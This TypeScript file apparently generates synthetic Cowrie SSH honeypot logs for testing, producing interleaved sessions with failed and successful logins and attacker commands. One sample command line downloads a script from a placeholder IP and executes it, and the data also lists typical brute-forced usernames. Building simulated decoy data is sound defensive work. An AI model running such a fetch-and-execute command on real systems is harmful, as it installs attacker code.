import { closeSync, openSync, writeSync } from 'node:fs';
import { seeded } from '../src/kit/seeded.ts';

const users = ['root', 'admin', 'ubuntu', 'pi', 'oracle', 'test', 'postgres', 'git', 'user', 'solana'];
const commands = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'free -m',
  'ls -lh $(which ls)',
  'w',
  'crontab -l',
  'cd /tmp; wget http://192.0.2.66/x.sh; sh x.sh',
];
const versions = ['SSH-2.0-Go', 'SSH-2.0-libssh_0.9.6', 'SSH-2.0-paramiko_2.9.2', 'SSH-2.0-OpenSSH_9.2p1'];

/**
 * Writes a log as Cowrie does: whole sessions (connect, version, key exchange, logins, some commands, close), interleaved, of as
 * many sources as a busy decoy sees. Deterministic. Returns its number of lines.
 */
export function writeCowrieLog(path: string, events: number, seed = 1): number {
  const random = seeded(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  const file = openSync(path, 'w');
  let time = Date.UTC(2025, 1, 12);
  let written = 0;
  let text = '';
  const open: string[][] = [];
  for (let n = 0; written < events; ) {
    while (open.length < 64) open.push(session(n++, random, pick));
    const at = Math.floor(random() * open.length);
    const line = open[at]!.shift()!;
    if (open[at]!.length === 0) open.splice(at, 1);
    time += random() * 40;
    text += `${line.replace('@', new Date(time).toISOString().replace('Z', '000Z'))}\n`;
    written++;
    if (text.length > 1 << 20) {
      writeSync(file, text);
      text = '';
    }
  }
  writeSync(file, text);
  closeSync(file);
  return written;
}

function session(n: number, random: () => number, pick: <T>(list: readonly T[]) => T): string[] {
  const id = (n * 2_654_435_761).toString(16).padStart(12, '0').slice(-12);
  // A few sources do most of it, many come once: as seen at real decoys.
  const source = random() < 0.7 ? Math.floor(random() * 300) : Math.floor(random() * 60_000);
  const ip = `${source % 2 ? 203 : 198}.${source % 3 ? 0 : 51}.${(source >> 8) & 255}.${source & 255}`;
  const common = `"sensor":"decoy-1","uuid":"6f1c3a52-9e1d-11ef-8d3a-0242ac120002","timestamp":"@","src_ip":"${ip}","session":"${id}"`;
  const lines = [
    `{"eventid":"cowrie.session.connect","src_port":${1024 + (n % 60_000)},"dst_ip":"192.0.2.10","dst_port":2222,"protocol":"ssh","message":"New connection: ${ip}",${common}}`,
    `{"eventid":"cowrie.client.version","version":"${pick(versions)}","message":"Remote SSH version","protocol":"ssh",${common}}`,
    `{"eventid":"cowrie.client.kex","hassh":"0a07365cc01fa9fc82608ba4019af499","hasshAlgorithms":"curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr;hmac-sha2-256;none","message":"SSH client hassh fingerprint","protocol":"ssh",${common}}`,
  ];
  const tries = 1 + Math.floor(random() * 3);
  for (let i = 0; i < tries; i++) {
    const [user, secret] = [pick(users), `pw${Math.floor(random() * 5_000)}`];
    lines.push(
      `{"eventid":"cowrie.login.failed","username":"${user}","password":"${secret}","message":"login attempt [${user}/${secret}] failed","protocol":"ssh",${common}}`,
    );
  }
  if (random() < 0.1) {
    lines.push(
      `{"eventid":"cowrie.login.success","username":"root","password":"admin","message":"login attempt [root/admin] succeeded","protocol":"ssh",${common}}`,
    );
    for (let i = 0; i < 4; i++) {
      const input = pick(commands);
      lines.push(
        `{"eventid":"cowrie.command.input","input":${JSON.stringify(input)},"message":${JSON.stringify(`CMD: ${input}`)},"protocol":"ssh",${common}}`,
      );
    }
  }
  lines.push(
    `{"eventid":"cowrie.session.closed","duration":${(random() * 20).toFixed(1)},"message":"Connection lost","protocol":"ssh",${common}}`,
  );
  return lines;
}
